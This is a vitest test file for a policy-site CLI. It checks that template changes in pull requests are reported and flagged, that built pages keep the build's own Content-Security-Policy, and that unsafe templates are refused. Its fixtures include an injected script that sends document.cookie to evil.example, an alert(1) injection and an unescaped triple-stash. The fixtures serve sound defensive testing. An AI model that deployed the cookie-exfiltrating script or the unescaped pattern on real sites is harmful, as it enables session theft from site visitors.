/**
 * Templates are code (issue 13.7): a pull request that adds `templates:` or
 * edits the template folder is seen by `diff` and `check`; whatever the
 * templates say, the site carries the build's own CSP and prints no policy
 * value unescaped but the sanitised `…Html` ones.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { SITE_CSP } from '../../src/cli/template-audit.js';
import { crashSigns, root, rulebook } from './cli.js';

const work = mkdtempSync(join(tmpdir(), 'rulebook-templates-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const layout = readFileSync(join(root, 'templates/layout.hbs'), 'utf8');
const CSP_LINE = /<meta http-equiv="Content-Security-Policy"[^>]*>\n/;
/** A layout that drops the CSP for a weak one and runs script. */
const hostileLayout = layout.replace(CSP_LINE, `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">\n<script>fetch('https://evil.example/'+document.cookie)</script>\n`);

function repo(): string {
  const dir = mkdtempSync(join(work, 'repo-'));
  cpSync(join(root, 'policies'), join(dir, 'policies'), { recursive: true });
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: dir, stdio: 'pipe' });
  git('init', '-q');
  git('add', '.');
  git('commit', '-qm', 'base');
  return dir;
}
const commit = (dir: string, message: string) => {
  execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', 'add', '-A'], { cwd: dir });
  execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', 'commit', '-qm', message], { cwd: dir });
};

const htmlFiles = (dir: string): string[] => readdirSync(dir, { recursive: true }).map(String).filter((f) => f.endsWith('.html'));

describe('templates are code', () => {
  it('a PR adding templates: diff reports it, check warns, the build sets its own CSP', async () => {
    const dir = repo();
    mkdirSync(join(dir, 'tpl'));
    writeFileSync(join(dir, 'tpl/layout.hbs'), hostileLayout);
    writeFileSync(join(dir, 'policies/rulebook.yaml'), readFileSync(join(dir, 'policies/rulebook.yaml'), 'utf8') + 'templates: ../tpl\n');
    commit(dir, 'a new look');

    const diff = await rulebook(['diff', 'HEAD~1', 'HEAD', '--lang', 'en'], dir, 60_000);
    expect(crashSigns(diff)).toEqual([]);
    expect(diff.stdout).toMatch(/\| templates \|/);
    expect(diff.stdout).toContain('| template files |');
    expect(diff.stdout).toContain('layout.hbs');

    const check = await rulebook(['check', '--format', 'json', '--lang', 'en'], dir, 60_000);
    const found = (JSON.parse(check.stdout) as { diagnostics: { code: string; severity: string; message: string }[] }).diagnostics.filter((d) => d.code === 'config');
    expect(found.map((d) => d.severity)).toEqual(expect.arrayContaining(['info', 'warning']));
    expect(found.map((d) => d.message).join('\n')).toMatch(/<script>/);
    expect(found.map((d) => d.message).join('\n')).toMatch(/Content-Security-Policy/);

    const out = join(dir, 'dist');
    const build = await rulebook(['build'], dir, 90_000);
    expect(crashSigns(build)).toEqual([]);
    expect(build.code, build.stderr).toBe(0);
    const pages = htmlFiles(join(out, 'handbook'));
    expect(pages.length).toBeGreaterThan(3);
    for (const page of pages) {
      const html = readFileSync(join(out, 'handbook', page), 'utf8');
      const metas = [...html.matchAll(/<meta[^>]*Content-Security-Policy[^>]*>/gi)].map((m) => m[0]);
      expect(metas, page).toEqual([`<meta http-equiv="Content-Security-Policy" content="${SITE_CSP}">`]);
      // The CSP comes before the template's inline script, so a browser refuses to run it.
      expect(html.indexOf(metas[0]), page).toBeLessThan(html.indexOf('<script>fetch'));
    }

    // A later PR that only edits a template file: still a change diff reports.
    writeFileSync(join(dir, 'tpl/layout.hbs'), hostileLayout.replace('evil.example', 'evil2.example'));
    commit(dir, 'tweak');
    const again = await rulebook(['diff', 'HEAD~1', 'HEAD', '--lang', 'en'], dir, 60_000);
    expect(again.stdout).toContain('| template files |');
    expect(again.stdout).not.toMatch(/\| templates \|/);
  }, 240_000);

  it('refuses a template that prints a policy value unescaped, and a page with content before <head>', async () => {
    for (const [file, text, message] of [
      ['partials/decision.hbs', '<h3>{{{title}}}</h3>', /unescaped/],
      ['layout.hbs', `<script>alert(1)</script>\n${layout}`, /before its <head>/],
    ] as const) {
      const dir = repo();
      mkdirSync(join(dir, 'tpl/partials'), { recursive: true });
      writeFileSync(join(dir, 'tpl', file), text);
      writeFileSync(join(dir, 'policies/rulebook.yaml'), readFileSync(join(dir, 'policies/rulebook.yaml'), 'utf8') + 'templates: ../tpl\n');
      const r = await rulebook(['build', '--out', join(dir, 'out'), '--lang', 'en'], dir, 90_000);
      expect(crashSigns(r), file).toEqual([]);
      expect(r.code, file).toBe(1);
      expect(r.stdout + r.stderr, file).toMatch(message);
    }
  }, 240_000);
});
